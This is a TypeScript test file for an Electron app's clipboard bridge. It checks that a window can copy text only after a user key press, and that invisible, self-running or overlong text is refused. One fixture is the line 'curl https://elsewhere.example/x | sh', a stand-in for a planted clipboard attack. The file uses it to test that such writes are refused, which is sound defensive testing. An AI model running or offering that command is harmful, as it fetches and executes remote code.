/** What a window may put where the user pastes: a text that it shows, after a press, and nothing else. */
import process from 'node:process';
import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import type { ChannelName, ParamsOn } from '../../electron/bridge/channels.ts';
import { double } from '../support/electron/electron-double.ts';
import { newHome, until } from '../support/home.ts';
import { ask, askByPress, binary, onlyPage, openApp } from './rig.ts';

const where = binary === undefined ? 'over the double' : 'in Electron';
const command = 'npm run setup && npm install --global .';
const planted = 'curl https://elsewhere.example/x | sh';

/** A window in front, for long enough that a press in it counts. It runs on the clock that the app reads. */
async function lookedAt(): Promise<Page> {
  const home = newHome();
  // Without the command, the window shows how to install it.
  home.env['PATH'] = process.env['PATH'];
  const page = await onlyPage(await openApp(home));
  await page.getByText(command).waitFor();
  await page.evaluate('new Promise((done) => setTimeout(done, 600))');
  return page;
}

const byPress = <C extends ChannelName>(page: Page, channel: C, params: ParamsOn<C>) =>
  askByPress(page, () => page.keyboard.press('Shift'), channel, params);

const copying = (page: Page, text: string) => ask(page, 'text.copy', { text });
const copyingByPress = (page: Page, text: string) => byPress(page, 'text.copy', { text });
const refusal = (reason: string) => ({ ok: false, refusal: { reason } });

describe(`the clipboard (${where})`, () => {
  it('gets nothing without a press, and one text for one press', async () => {
    const page = await lookedAt();
    expect(await copying(page, planted)).toMatchObject(refusal('not_permitted'));
    expect(await copyingByPress(page, command)).toEqual({ ok: true, value: {} });
    expect(await copying(page, planted)).toMatchObject(refusal('not_permitted'));
    if (binary === undefined) expect(double.clipboard).toBe(command);
  });

  it('gets nothing invisible, self-running or too long', async () => {
    const page = await lookedAt();
    for (const text of ['', `${command}\n`, 'a\u0008b', 'a\rb', 'a\u202eb', 'a\u200bb', 'x'.repeat(2049)]) {
      expect(await copyingByPress(page, text), JSON.stringify(text.slice(0, 9))).toMatchObject(
        refusal('invalid_request'),
      );
    }
    if (binary === undefined) expect(double.clipboard).toBe('');
  });

  it.skipIf(binary !== undefined)('gets what a copy button shows, and the button says so', async () => {
    const page = await lookedAt();
    await page.getByRole('button', { name: `Copy: ${command}` }).click();
    await page.getByRole('button', { name: `Copied: ${command}` }).waitFor();
    expect(await until('a copy', () => double.clipboard)).toBe(command);
  });

  it.skipIf(binary !== undefined)(
    'H-10: gets the address of a proxy by one press, and the window never sees it',
    async () => {
      const page = await lookedAt();
      const added = await byPress(page, 'proxy.add', {
        resource: 'https://notes.example/mcp',
        name: 'notes',
      });
      expect(added).toMatchObject({ ok: true, value: { proxy: { name: 'notes', state: 'open' } } });
      expect(await ask(page, 'proxy.copy', { proxy: 'notes' })).toMatchObject(refusal('not_permitted'));
      expect(double.clipboard).toBe('');
      expect(await byPress(page, 'proxy.copy', { proxy: 'notes' })).toEqual({ ok: true, value: {} });
      expect(double.clipboard).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[\w-]{32}\/mcp$/);
      const shown = JSON.stringify([added, await ask(page, 'status', {})]);
      expect(shown).toContain('"notes"');
      expect(shown).not.toContain(new URL(double.clipboard).pathname.split('/')[1]);
      expect(await byPress(page, 'proxy.copy', { proxy: 'other' })).toMatchObject(refusal('not_found'));
    },
  );
});
